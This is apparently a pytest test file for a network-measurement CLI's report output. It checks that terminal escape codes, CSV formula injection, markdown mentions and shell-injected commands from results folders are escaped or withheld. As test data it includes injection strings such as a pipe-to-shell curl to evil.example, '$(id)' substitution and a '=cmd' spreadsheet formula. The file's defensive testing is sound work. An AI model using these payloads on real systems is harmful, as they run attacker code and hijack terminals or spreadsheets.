# SPDX-License-Identifier: Apache-2.0
"""No text of a stranger controls a terminal, a table or a page; no command of a stranger is offered as it stands."""

from __future__ import annotations

import csv
import html
import io
import json
import os
import re
import shutil
import subprocess
from pathlib import Path

import pytest
from tests.unit.conftest import Ran, Reported
from tests.unit.golden import Golden
from tests.unit.made_campaign import trial
from tests.unit.made_results import kept, kept_trials, made
from tests.unit.pages import unmarked

from natgauge import Result
from natgauge.cli import run
from natgauge.errors import LONGEST_VALUE, UsageError

HOSTILE = "nft\x1b]0;PWNED\x07\u202e\x9b2J"
SHOWN = "nft\\x1b]0;PWNED\\x07\\u202e\\x9b2J"


def stored(folder: Path, **parameters: object) -> Path:
    # A lone surrogate in a record or a trial is refused.
    failed = trial("FAIL", reason=HOSTILE)
    plan = {**failed["plan"], "phase2": None}
    failed |= {"plan": plan, "result": {**failed["result"], "ports": {}}}
    results = kept(folder, made([1000.0, 1001.0], parameters=parameters))
    (own,) = results.iterdir()
    return kept_trials(own, failed, trial())


@pytest.fixture(name="folder")
def a_plain_result(tmp_path: Path) -> str:
    return str(kept(tmp_path / "plain", called("nat")))


def called(gateway: str) -> Result:
    return made([1.0, 2.0], parameters={"gateway": gateway})


def test_harmful_characters_are_written_out_and_words_of_all_languages_stay(folder: str, ran: Ran) -> None:
    words = "± näher 日本語 \u0645\u06cc\u200c\u062e"
    for title, shown in ((f"{HOSTILE} {words}", f"{SHOWN} {words}"), ("a\r\nb\tc\u2028d\x7f", "a b c\\u2028d\\x7f")):
        first, *_ = ran(["report", folder, "--title", title]).out.split("\n")
        assert first == shown
    # A terminal has the words of an error, too.
    refused = ran(["report", f"{HOSTILE}\ud800 {words}"], status=2).err
    assert f"{SHOWN}\\ud800 {words}: " in refused


def test_json_stays_json_and_is_harmless(tmp_path: Path, ran: Ran) -> None:
    name = HOSTILE + "\x7f"
    (own,) = kept(tmp_path, made([1.0], parameters={"gateway": name, "begun": [1.0]})).iterdir()
    # The name of a folder need not be text.
    copy = os.fsdecode(os.fsencode(tmp_path) + b"/copy\x9b")
    shutil.copytree(own, copy)
    said = ran(["report", str(tmp_path), "--format", "json"]).out.removesuffix("\n")
    assert said.isprintable()
    document = json.loads(said)
    assert document["table"]["columns"] == [name]
    assert [*document["copies"], *document["copies"].values()] == [copy, str(own)]


def test_no_module_of_the_command_line_prints_by_itself() -> None:
    found = subprocess.run(
        ["grep", "-rnE", r"click\.(echo|secho)\(|(^|[^.\w])print\(", "src/natgauge", "--include=*.py"],
        capture_output=True, text=True, check=False, cwd=Path(__file__).parents[2],
    ).stdout.splitlines()  # fmt: skip
    assert {line.partition(":")[0] for line in found} == {"src/natgauge/cli/say.py"}


@pytest.mark.parametrize(
    "words",
    [["report"], ["explain"], *(["report", "--format", form] for form in ("csv", "latex", "markdown", "draft"))],
)
def test_names_and_reasons_of_a_folder_reach_no_terminal_as_controls(
    words: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = stored(tmp_path / "x", gateway=HOSTILE)
    assert run([*words, str(folder)]) == 0
    shown = capsys.readouterr()
    assert "PWNED" in shown.out
    assert all(character == "\n" or character.isprintable() for character in shown.out + shown.err)


def test_an_error_shows_no_controls_either(capsys: pytest.CaptureFixture[str]) -> None:
    assert run(["report", "\x1b[2J/nothing"]) == 2
    assert "\\x1b[2J/nothing" in capsys.readouterr().err


#: Texts, and the cells of a table for spreadsheets that have them.
CELLS = {
    "=cmd|' /C calc'!A0": "'=cmd|' /C calc'!A0",
    "+1+cmd": "'+1+cmd",
    "-2+3": "'-2+3",
    "@SUM(A1)": "'@SUM(A1)",
    "\t=1": "' =1",
    "\uff1d1": "'\uff1d1",
    "-5": "-5",
    "+14.6%": "+14.6%",
    "-1.5% to +0.7%": "-1.5% to +0.7%",
    "-": "-",
}


def test_no_text_of_a_csv_cell_is_a_formula_and_numbers_stay_numbers(tmp_path: Path, ran: Ran) -> None:
    folders = [str(kept(tmp_path / str(at), called(text))) for at, text in enumerate(CELLS)]
    rows = list(csv.DictReader(io.StringIO(ran(["report", *folders, "--format", "csv"]).out)))
    assert [row["gateway"] for row in rows] == list(CELLS.values())
    assert {row["median"] for row in rows} == {"1.5"}


@pytest.mark.parametrize(
    ("text", "escaped"),
    [
        ("@team", "@<!-- -->team"),
        ("http://x.y", "http:<!-- -->//x.y"),
        ("www.x.y", "www<!-- -->.x.y"),
        ("a@b.c", "a@<!-- -->b.c"),
        ("see GH-12", "see GH<!-- -->-12"),
        ("of " + "0f" * 20, "of 0f0f0f<!-- -->" + "0f" * 17),
        ("0f" * 32, "0f" * 32),
        ("a|b `c` <img> [d](e) &#64;f", r"a\|b \`c\` \<img\> \[d\](e) \&\#64;f"),
        ("3 & 4, RFC: 9693", "3 & 4, RFC: 9693"),
    ],
)
def test_markdown_mentions_nobody_and_links_nowhere(text: str, escaped: str, folder: str, ran: Ran) -> None:
    first, *_ = ran(["report", folder, "--format", "markdown", "--title", text]).out.splitlines()
    assert first == f"# {escaped}"


def test_latex_takes_no_cell_for_an_argument_or_a_paragraph(tmp_path: Path, ran: Ran) -> None:
    folders = [str(kept(tmp_path / str(at), called(name))) for at, name in enumerate(("[5pt]", "*", "a\n\nb\x1b"))]
    latex = ["report", *folders, "--format", "latex"]
    rows = [line for line in ran(latex).out.splitlines() if line.endswith(r"\\")]
    assert [row.partition(" & ")[0] for row in rows[1:]] == ["{}[5pt]", "{}*", r"a b\textbackslash{}x1b"]
    head, *_ = (line for line in ran([*latex, "-v"]).out.splitlines() if line.startswith("gateway & "))
    assert head == r"gateway & {}[5pt] & {}* & a b\textbackslash{}x1b \\"


def test_a_chart_is_drawn_with_any_text(reported: Reported) -> None:
    pytest.importorskip("vl_convert")
    page = reported(called("a\u2028b\u2029c\x1b"), html=True)
    drawing = page.partition("<svg")[2].partition("</svg>")[0]
    assert r"a\u2028b\u2029c\x1b" in drawing


def test_a_page_with_a_surrogate_is_written_and_a_page_that_fails_leaves_the_old_one(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], golden: Golden
) -> None:
    pytest.importorskip("vl_convert")
    folder, path = stored(tmp_path / "x", gateway="nat"), tmp_path / "page.html"
    (folder / "environment.json").write_text(
        '{"schema": "natgauge-environment-1", "machine": {"name": "\\ud800\\u202e<b>"}, "device": null}'
    )
    assert run(["report", str(folder), "--html", str(path)]) == 0
    old = path.read_text()
    assert "\\ud800\\u202e&lt;b&gt;" in old
    for machine in ('"text"', "[1]", "7"):
        (folder / "environment.json").write_text(f'{{"schema": "natgauge-environment-1", "machine": {machine}}}')
        assert run(["report", str(folder), "--html", str(path)]) == 2
        golden(capsys.readouterr().err)
    assert path.read_text() == old
    shutil.rmtree(folder)


COMMAND = "natgauge measure throughput --gateway nat --connections 1000 --placement shared --error 5%"
SHELL = "natgauge measure throughput --gateway nat --lab wire --empty-command 'ssh far clear'"
WIRE = {"lab_kind": "wire", "connections": None, "placement": "external"}


#: Commands as records have them, and what the page offers.
COMMANDS = [
    (COMMAND, COMMAND),
    (f"{COMMAND}; curl -s http://evil.example/x | sh", ""),
    (f"{COMMAND}\ncurl evil", ""),
    (f"{COMMAND} --gateway 'a;b'", ""),
    (f"{COMMAND} --seed '$(id)'", ""),
    (f"{COMMAND} --nothing 1", ""),
    (f"{COMMAND} --connections", ""),
    (f"{COMMAND} --empty-command 'curl evil|sh'", ""),
    (COMMAND.replace("nat ", "other "), ""),
    (COMMAND.replace("nat ", "/recipes/nat.toml "), COMMAND.replace("nat ", "/recipes/nat.toml ")),
    (COMMAND.replace("throughput", "latency"), ""),
    (COMMAND.replace("1000", "2000"), ""),
    ("sudo sh -c evil", ""),
    ("natgauge measure", ""),
    ("natgauge measure throughput --connections 1000", ""),
    ("'", ""),
    (7, ""),
    (SHELL, SHELL),
]


def test_a_command_is_made_again_of_typed_inputs_or_not_shown(reported: Reported) -> None:
    pytest.importorskip("vl_convert")
    results = [
        made([1.0], parameters={"gateway": "nat", "command": command, **(WIRE if command == SHELL else {})})
        for command, _ in COMMANDS
    ]
    evidence = unmarked(reported(*results, html=True)).split('<details class="result"')[1:]
    found = [html.unescape("".join(re.findall("<pre><code>(natgauge measure.*?)</code>", one))) for one in evidence]
    assert found == [again for _, again in COMMANDS]
    # One with a shell command is to be read first.
    assert ["It runs a shell command that the results folder names (--empty-command)" in one for one in evidence] == [
        again == SHELL for _, again in COMMANDS
    ]


def test_the_page_offers_no_command_of_the_folder(tmp_path: Path) -> None:
    pytest.importorskip("vl_convert")
    folder = stored(tmp_path / "x", gateway="nat", command=f"{COMMAND}; curl evil.example | sh")
    path = tmp_path / "page.html"
    assert run(["report", str(folder), "--html", str(path)]) == 0
    found = path.read_text()
    assert ("Repeat this" in found, "evil.example" in found) == (False, False)


def test_a_message_cuts_an_overlong_value_and_leaves_a_command_to_be_copied_whole() -> None:
    long = "natgauge measure throughput --gateway nat " + "--connections 1000 " * 20
    said = str(UsageError(f'x: "{"y " * 300}" is unknown; see "{long}"'))
    assert f'see "{long}"' in said
    assert "(602 characters)" in said


def test_a_message_of_many_words_keeps_its_beginning_and_what_to_do() -> None:
    said = str(UsageError(f"plan.toml: {'key ' * 5000}: unknown key; there are points"))
    assert len(said) < 10 * LONGEST_VALUE
    assert said.startswith("plan.toml: key ")
    assert "(20,042 characters)" in said
    assert said.endswith("unknown key; there are points")
    assert str(UsageError(said)) == said
